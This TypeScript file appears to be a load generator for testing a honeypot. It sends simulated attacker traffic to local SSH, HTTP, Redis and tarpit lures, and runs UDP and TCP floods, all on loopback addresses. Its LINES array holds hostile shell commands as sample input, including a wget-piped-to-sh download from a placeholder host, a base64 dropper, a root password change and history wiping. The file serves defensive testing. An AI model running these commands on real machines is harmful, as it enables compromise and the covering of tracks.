import { createSocket } from 'node:dgram'
import { appendFileSync } from 'node:fs'
import { Agent, request } from 'node:http'
import { connect as connectTcp, createConnection, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { connect as connectTls } from 'node:tls'
import { Client, type ClientChannel } from 'ssh2'
import type { PortRow } from '../../src/sensor/sensor.ts'
import { seedsOf } from '../../test/fuzz/seeds.ts'
import type { Kind } from './marked-load.ts'

/** What the process of the load is told, as JSON in its first argument. */
export interface MixedLoadOptions {
  ports: PortRow[]
  ssh: number
  http: number
  /** Where each answered mark is written down, with its kind: `ssh m0123…`; and each connection to another lure: `visit redis 127.3.0.1:40000`. */
  marks: string
}

/** What it says at its end. */
export interface MixedLoadTotals {
  unanswered: number
  floodPackets: number
  floodConnections: number
  heldByTarpit: number
}

/** Sources by what they do, a /16 of loopback each. */
const SSH_NETWORK = '127.1'
const HTTP_NETWORK = '127.2'
/** Visitors of all the other lures. */
const OTHERS_NETWORK = '127.3'
/** Those that come to each lure at the beginning. */
const FIRST_NETWORK = '127.6'
const FLOOD_NETWORK = '127.9'

const LINES = [
  'uname -a; id; cat /proc/cpuinfo | grep name | wc -l',
  'ls -la /tmp /etc | head -20',
  'for i in 1 2 3; do echo $i; done',
  'ps aux | head -5; free -m; w',
  'cd /tmp && echo IyEvYmluL3NoCg== | base64 -d > .x && chmod +x .x && ./.x; rm -f .x',
  'cat /etc/passwd | cut -d: -f1 | sort | uniq -c',
  'wget -q http://192.0.2.1/bins.sh -O - | sh',
  'echo "root:$(date +%s)" | chpasswd; history -c',
]
const PATHS = ['/', '/robots.txt', '/.env', '/wp-login.php', '/admin/config.php', '/cgi-bin/luci', '/phpmyadmin/index.php']
const RETURNING = 64
const ANSWER_WITHIN_MS = 10_000
const TARPITTED = 50
/** So many visitors from addresses of their own come to each lure at the beginning: more than any lure remembers by source. */
const FIRST_VISITORS = 1_000
const FIRST_AT_ONCE = 128

const any = <T>(list: readonly T[]): T => list[Math.floor(Math.random() * list.length)] as T
const between = (low: number, high: number): number => low + Math.random() * (high - low)
const whole = (low: number, high: number): number => Math.floor(between(low, high + 1))

/** An address of that /16; of every third caller one that comes back again and again. */
function sourceIn(network: string): string {
  return Math.random() < 1 / 3 ? `${network}.0.${whole(1, RETURNING)}` : `${network}.${whole(1, 254)}.${whole(1, 254)}`
}

interface Saying {
  lure: string
  tls: boolean
  said: Buffer
  pause: Pause
}

/** How long a visitor listens, ms. */
interface Pause {
  low: number
  high: number
}

/** Clients of every lure at moderate rates, and floods now and then. Each is one lane that goes on until the load is stopped. */
class MixedLoad {
  readonly totals: MixedLoadTotals = { unanswered: 0, floodPackets: 0, floodConnections: 0, heldByTarpit: 0 }
  readonly #ports: PortRow[]
  readonly #marks: string
  readonly #stopping = new AbortController()
  readonly #lanes: Promise<void>[]
  #lastMark = 0
  #written = ''

  constructor({ ports, ssh, http, marks }: MixedLoadOptions) {
    this.#ports = ports
    this.#marks = marks
    const others = firstPorts(ports)
    const lanes: (() => Promise<void>)[] = [
      ...Array.from({ length: ssh }, () => () => this.#ssh()),
      ...Array.from({ length: http }, () => () => this.#http()),
      ...others.filter(({ lure }) => lure !== 'ssh' && lure !== 'http').map((port) => () => this.#visit(port)),
      ...Array.from({ length: 3 }, () => () => this.#redis()),
      ...Array.from({ length: TARPITTED }, () => () => this.#tarpitted()),
    ]
    const visited = others.filter(({ lure }) => lure !== 'ssh-tarpit')
    this.#lanes = [...lanes.map((lane) => this.#repeat(lane)), this.#floods(), this.#firstVisitors(visited)]
  }

  async stop(): Promise<void> {
    this.#stopping.abort()
    await Promise.all(this.#lanes)
    this.writeMarks()
  }

  writeMarks(): void {
    appendFileSync(this.#marks, this.#written)
    this.#written = ''
  }

  get #isOver(): boolean {
    return this.#stopping.signal.aborted
  }

  async #repeat(lane: () => Promise<void>): Promise<void> {
    await this.#pause(0, 20_000)
    while (!this.#isOver) await lane()
  }

  async #pause(low: number, high: number): Promise<void> {
    await sleep(between(low, high), undefined, { signal: this.#stopping.signal }).catch(() => undefined)
  }

  #mark(): string {
    return `m${(++this.#lastMark).toString(16).padStart(16, '0')}`
  }

  #answered(kind: Kind, mark: string, isAnswered: boolean): void {
    if (isAnswered) this.#written += `${kind} ${mark}\n`
    else this.totals.unanswered++
  }

  #port(lure: string): number {
    return this.#ports.find((port) => port.lure === lure && !port.tls)?.port ?? 0
  }

  /** A login, and some commands as bots and people give them: half of them marked, one in twenty for the model. */
  async #ssh(): Promise<void> {
    const sock = createConnection({ port: this.#port('ssh'), host: '127.0.0.1', localAddress: sourceIn(SSH_NETWORK), noDelay: true })
    const client = new Client()
    let isGone = false
    const ready = new Promise<boolean>((resolve) => {
      client.on('ready', () => resolve(true))
      client.on('error', () => resolve(false))
      client.on('close', () => {
        isGone = true
        resolve(false)
      })
    })
    client.connect({ sock, username: any(['root', 'admin', 'ubuntu']), password: `pass${whole(1, 9999)}`, readyTimeout: ANSWER_WITHIN_MS })
    if (!(await ready)) {
      this.totals.unanswered++
      client.destroy()
      return this.#pause(500, 2_000)
    }
    if (Math.random() < 0.25) await this.#type(client)
    else {
      for (let left = whole(5, 25); left > 0 && !this.#isOver && !isGone; left--) {
        const chance = Math.random()
        if (chance < 0.5) {
          const mark = this.#mark()
          this.#answered('ssh', mark, (await execute(client, `echo ${mark}`)).includes(mark))
        } else if (chance < 0.55) await execute(client, `mysqldump --version ${whole(1, 1e9)}`)
        else await execute(client, any(LINES))
        await this.#pause(2_500, 12_500)
      }
    }
    client.end()
  }

  /** Lines typed into a terminal. */
  async #type(client: Client): Promise<void> {
    const channel = await new Promise<ClientChannel | undefined>((resolve) =>
      client.shell({ term: 'xterm', cols: 80, rows: 24 }, (error, opened) => resolve(error ? undefined : opened)),
    )
    if (!channel) return
    channel.resume()
    for (let left = whole(5, 25); left > 0 && !this.#isOver; left--) {
      channel.write(`${any(LINES)}\r`)
      await this.#pause(2_500, 12_500)
    }
    channel.end('exit\r')
  }

  /** Some requests over one kept connection, each marked. */
  async #http(): Promise<void> {
    const agent = new Agent({ keepAlive: true, maxSockets: 1 })
    const localAddress = sourceIn(HTTP_NETWORK)
    for (let left = whole(3, 15); left > 0 && !this.#isOver; left--) {
      const mark = this.#mark()
      const isAnswered = await new Promise<boolean>((resolve) => {
        const path = `${any(PATHS)}?q=${mark}`
        const timeout = ANSWER_WITHIN_MS
        const asked = request({ host: '127.0.0.1', port: this.#port('http'), path, agent, localAddress, timeout }, (response) => {
          response.resume()
          response.on('end', () => resolve(true))
          response.on('error', () => resolve(false))
        })
        asked.on('timeout', () => asked.destroy())
        asked.on('error', () => resolve(false))
        asked.end()
      })
      this.#answered('http', mark, isAnswered)
      await this.#pause(6_000, 18_000)
    }
    agent.destroy()
  }

  async #redis(): Promise<void> {
    const mark = this.#mark()
    const options = { port: this.#port('redis'), host: '127.0.0.1', localAddress: sourceIn('127.4') }
    const isAnswered = await new Promise<boolean>((resolve) => {
      const socket = connectTcp(options, () => socket.write(`GET ${mark}\r\n`))
      socket.setTimeout(ANSWER_WITHIN_MS, () => socket.destroy())
      socket.on('data', () => {
        resolve(true)
        socket.end()
      })
      socket.on('error', () => resolve(false))
      socket.on('close', () => resolve(false))
    })
    this.#answered('redis', mark, isAnswered)
    await this.#pause(500, 1_500)
  }

  /** Fills what lures remember by source, which at the rate of the lanes would take hours, and would look as memory that leaks. */
  async #firstVisitors(ports: readonly PortRow[]): Promise<void> {
    let next = 0
    const total = ports.length * FIRST_VISITORS
    const visitors = Array.from({ length: FIRST_AT_ONCE }, async () => {
      for (let n = next++; n < total && !this.#isOver; n = next++) {
        const visitor = Math.floor(n / ports.length)
        const address = `${FIRST_NETWORK}.${Math.floor(visitor / 250)}.${1 + (visitor % 250)}`
        await this.#converse(ports[n % ports.length] as PortRow, address, { low: 50, high: 150 })
      }
    })
    await Promise.all(visitors)
  }

  async #visit(port: PortRow): Promise<void> {
    await this.#converse(port, sourceIn(OTHERS_NETWORK), { low: 500, high: 1_500 })
    await this.#pause(3_000, 17_000)
  }

  /** One conversation of the corpus of the fuzzer with a lure. */
  async #converse({ lure, transport, port, tls }: PortRow, localAddress: string, pause: Pause): Promise<void> {
    const seeds = await seedsOf(lure)
    const said = seeds.length ? any(seeds) : Buffer.from('\r\n')
    if (transport === 'udp') {
      const socket = createSocket('udp4')
      socket.on('error', () => undefined)
      socket.bind(0, localAddress, () => socket.send(said, port, '127.0.0.1'))
      await this.#pause(pause.low, pause.high)
      socket.close()
    } else await this.#speak(connectTcp({ port, host: '127.0.0.1', localAddress }), { lure, tls, said, pause })
  }

  async #speak(socket: Socket, { lure, tls, said, pause }: Saying): Promise<void> {
    socket.once('connect', () => {
      this.#written += `visit ${lure} ${socket.localAddress}:${socket.localPort}\n`
    })
    const talking = tls ? connectTls({ socket, rejectUnauthorized: false }) : socket
    const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()))
    socket.on('error', () => undefined)
    talking.on('error', () => undefined)
    talking.resume()
    talking.write(said)
    await Promise.race([closed, this.#pause(pause.low, pause.high)])
    talking.end()
    await Promise.race([closed, sleep(500)])
    talking.destroy()
    socket.destroy()
  }

  async #tarpitted(): Promise<void> {
    const socket = connectTcp({ port: this.#port('ssh-tarpit'), host: '127.0.0.1', localAddress: sourceIn('127.5') })
    socket.on('error', () => undefined)
    const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()))
    socket.resume()
    this.totals.heldByTarpit++
    await Promise.race([closed, this.#pause(60_000, 600_000)])
    socket.destroy()
    await this.#pause(500, 1_000)
  }

  /** By turns a flood of datagrams, of connections that are reset, and of connections that are held; each 15 seconds in a minute. */
  async #floods(): Promise<void> {
    const udp = this.#ports.filter(({ transport }) => transport === 'udp')
    const tcp = this.#ports.filter(({ transport }) => transport === 'tcp')
    for (let turn = 0; !this.#isOver; turn++) {
      await this.#pause(40_000, 50_000)
      const until = performance.now() + 15_000
      if (turn % 2 === 0) await this.#udpFlood(any(udp), until)
      else await this.#tcpFlood(any(tcp), until)
    }
  }

  async #udpFlood({ lure, port }: PortRow, until: number): Promise<void> {
    const seeds = await seedsOf(lure)
    const sockets = Array.from({ length: 4 }, (_, n) => {
      const socket = createSocket('udp4').on('error', () => undefined)
      socket.bind(0, `${FLOOD_NETWORK}.${whole(0, 254)}.${n + 1}`)
      return socket
    })
    while (performance.now() < until && !this.#isOver) {
      for (const socket of sockets) for (let n = 0; n < 5; n++) socket.send(any(seeds), port, '127.0.0.1')
      this.totals.floodPackets += sockets.length * 5
      await this.#pause(50, 50)
    }
    for (const socket of sockets) socket.close()
  }

  async #tcpFlood({ port }: PortRow, until: number): Promise<void> {
    const network = `${FLOOD_NETWORK}.${whole(0, 254)}`
    while (performance.now() < until && !this.#isOver) {
      for (let n = 0; n < 5; n++) {
        const socket = connectTcp({ port, host: '127.0.0.1', localAddress: `${network}.${whole(1, 4)}` }, () => {
          socket.write(Buffer.alloc(whole(1, 64), whole(0, 255)))
          setTimeout(() => socket.resetAndDestroy(), whole(0, 2_000))
        })
        socket.on('error', () => undefined)
      }
      this.totals.floodConnections += 5
      await this.#pause(50, 50)
    }
  }
}

/** The first port of each lure. */
function firstPorts(ports: readonly PortRow[]): PortRow[] {
  const first = new Map<string, PortRow>()
  for (const port of ports) if (!first.has(port.lure)) first.set(port.lure, port)
  return [...first.values()]
}

function execute(client: Client, command: string): Promise<string> {
  return new Promise((resolve) => {
    let said = ''
    const deadline = setTimeout(() => resolve(said), ANSWER_WITHIN_MS)
    const end = (): void => {
      clearTimeout(deadline)
      resolve(said)
    }
    try {
      client.exec(command, (error, channel) => {
        if (error) return end()
        channel.on('data', (bytes: Buffer) => {
          said += bytes
        })
        channel.stderr.resume()
        channel.on('close', end)
      })
    } catch {
      // The connection has gone.
      end()
    }
  })
}

if (import.meta.main) {
  const load = new MixedLoad(JSON.parse(process.argv[2] as string) as MixedLoadOptions)
  const writing = setInterval(() => load.writeMarks(), 1_000)
  process.once('SIGTERM', async () => {
    clearInterval(writing)
    await load.stop()
    process.stdout.write(`${JSON.stringify(load.totals)}\n`, () => process.exit(0))
  })
}
